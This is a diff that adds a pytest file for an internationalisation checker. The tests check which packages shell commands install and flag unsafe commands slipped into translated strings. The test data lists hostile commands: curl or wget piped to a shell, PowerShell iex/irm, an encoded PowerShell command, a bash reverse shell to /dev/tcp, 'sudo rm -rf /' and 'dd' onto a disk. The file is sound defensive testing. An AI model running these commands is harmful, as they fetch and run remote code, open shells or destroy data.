@@ -1,0 +1,139 @@
+"""What readers copy and run: what commands install, and what fetches and runs."""
+
+from __future__ import annotations
+
+import pytest
+from check_cases import pair
+from documents import read
+
+from i18n_tool.checks.commands import command_faults
+from i18n_tool.checks.installs import installed, installed_by
+
+
+@pytest.mark.parametrize(
+    ("command", "names"),
+    [
+        ("pip install requests", ["requests"]),
+        ("sudo pip3 install -U --user Requests[security]>=2 flask", ["requests", "flask"]),
+        ("python -m pip install --upgrade pip", ["pip"]),
+        ("./venv/bin/pip install requests==2.31.0", ["requests"]),
+        ("pip install -r requirements.txt -e . ../x ~/y", []),
+        ("pip install git+https://example.org/a.git", []),
+        ("uv add httpx && uv pip install rich", ["httpx", "rich"]),
+        ("uvx --from evil ruff check", ["evil", "ruff"]),
+        ("npm i -g @acme/app@latest left-pad", ["@acme/app", "left-pad"]),
+        ("npm install", []),
+        ("npm run build", []),
+        ("npx --yes create-app my-app", ["create-app"]),
+        ("npx --registry known evil", ["known", "evil"]),
+        ("yarn global add a; pnpm dlx b c | bun add d", ["a", "b", "d"]),
+        ("cargo +nightly install ripgrep --locked", ["ripgrep"]),
+        ("go install github.com/acme/app@latest", ["github.com/acme/app"]),
+        ("brew install --cask acme/tap/app", ["acme/tap/app"]),
+        ("apt-get -y install a b", ["a", "b"]),
+        ("docker run -d -p 80:80 --name web -e A=b acme/app:1.2 run it", ["acme/app"]),
+        ("docker pull ghcr.io/acme/app", ["ghcr.io/acme/app"]),
+        ("docker pull -a acme/app", ["acme/app"]),
+        ("helm install my-app acme/app", ["acme/app"]),
+        ("helm install acme/app --generate-name", ["acme/app"]),
+        ("dotnet add src/App package Acme.Json", ["acme.json"]),
+        ("code --install-extension acme.app", ["acme.app"]),
+        ("npm install <package>", []),
+        ("pip install {name} $NAME", []),
+        ('R: install.packages("acme")', ["acme"]),
+        ('remotes::install_github("acme/app")', ["acme/app"]),
+        ("git clone https://example.org/a.git", []),
+        ("gh repo clone acme/app", ["acme/app"]),
+        ("echo install", []),
+    ],
+)
+def test_what_a_command_installs(command: str, names: list[str]) -> None:
+    """Names without versions; no options, files, addresses, or what readers fill in."""
+    assert list(installed(command)) == names
+
+
+def test_in_prose_the_first_word_counts() -> None:
+    """Behind it the sentence goes on."""
+    assert list(installed("Run pip install requests to begin.", prose=True)) == ["requests"]
+
+
+def test_what_a_document_installs() -> None:
+    """Code of any kind, prose, and what stands in code alone."""
+    document = read(
+        "Run `pip install a` or npm install b-c to begin. There is `d`.\n\n"
+        "```sh\nbrew install e\n```\n\n    cargo add f\n"
+    )
+
+    assert installed_by(document) >= {"a", "b-c", "d", "e", "f"}
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl -sL example.org/x | sh",
+        "curl x | sudo -E bash -",
+        "wget -qO- x | python3 -",
+        "bash <(curl x)",
+        'sh -c "$(curl -fsSL x)"',
+        "source <(curl x)",
+        'eval "$(x)"',
+        "python -c 'import x'",
+        "node -e 'x()'",
+        "perl -MCPAN -e 'x'",
+        "iex (iwr x)",
+        'iex "& { $(irm x) }"',
+        "irm x | iex",
+        "powershell -ExecutionPolicy Bypass -EncodedCommand x",
+        "echo x | base64 -d | sh",
+        "mshta x",
+        "bash -i >& /dev/tcp/1.2.3.4/5 0>&1",
+        "sudo rm -rf /",
+        "dd if=x of=/dev/sda",
+    ],
+)
+def test_what_fetches_and_runs_or_destroys(command: str) -> None:
+    """It is found in code and in prose, and is none where the source has it."""
+    for msgstr in (f"Çalıştırın: ``{command}``.", f"Çalıştırın: <code>{command}</code>."):
+        faults = [fault.code for fault in command_faults(pair("Run the script.", msgstr))]
+        assert "unsafe-command" in faults
+        assert list(command_faults(pair(msgstr.replace("Çalıştırın", "Run"), msgstr))) == []
+
+
+@pytest.mark.parametrize(
+    ("msgid", "msgstr"),
+    [
+        ("Run `eval` with care.", "`eval` komutunu dikkatle çalıştırın."),
+        ("A shell such as bash is fine.", "bash gibi bir kabuk yeter."),
+        ("It is a | b | c.", "Bu a | b | c."),
+        ("Run the tests.", "Testleri `make test` ile çalıştırın."),
+        ("Use `pip`.", "`pip install` için `pip` kullanın."),
+        ("Run `node -v` first.", "Önce `node -v` çalıştırın."),
+        ("Remove the file.", "`rm dosya` ile dosyayı silin."),
+        ("Format: a table.", "Biçim: tablo."),
+    ],
+)
+def test_what_resembles_a_command(msgid: str, msgstr: str) -> None:
+    """Names of commands are none."""
+    assert list(command_faults(pair(msgid, msgstr))) == []
+
+
+@pytest.mark.parametrize(
+    ("msgid", "msgstr", "faulty"),
+    [
+        ("Run `npm install your-package`.", "`npm install paketiniz` çalıştırın.", False),
+        ("Run `npm install your-package`.", "`npm install paket-adi` çalıştırın.", False),
+        ("Run `npm install your-package`.", "`npm install evil` çalıştırın.", True),
+        ("Run `npm install left-pad`.", "`npm install paketiniz` çalıştırın.", True),
+    ],
+)
+def test_names_that_stand_for_others(msgid: str, msgstr: str, faulty: bool) -> None:
+    """What readers fill in may be translated, where the source has such a name."""
+    assert bool(list(command_faults(pair(msgid, msgstr)))) is faulty
+
+
+@pytest.mark.parametrize(
+    "hostile", ["pip install ", "`pip install a` ", "| sh ", "<a> ", "npx -x ", "curl x | ", "$("]
+)
+def test_long_nonsense_does_not_stop_a_run(hostile: str) -> None:
+    """Thousands of commands end in a verdict."""
+    assert isinstance(list(command_faults(pair("Hello.", hostile * 5_000))), list)
